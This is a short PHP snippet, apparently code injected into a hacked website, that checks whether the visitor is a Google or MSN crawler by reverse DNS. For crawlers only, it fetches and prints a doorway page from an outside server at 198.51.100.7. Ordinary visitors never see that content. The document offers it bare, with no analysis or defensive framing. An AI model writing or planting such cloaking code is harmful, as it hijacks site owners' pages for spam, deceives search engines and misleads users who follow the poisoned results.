<?php
function grab($u) { $c = curl_init($u); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); $r = curl_exec($c); curl_close($c); return $r; }
$h = gethostbyaddr($_SERVER['REMOTE_ADDR']);
if (preg_match('/googlebot\.com$|search\.msn\.com$/', $h)) {
    print grab('http://198.51.100.7/door/' . md5($_SERVER['HTTP_HOST']) . '.html');
    die();
}
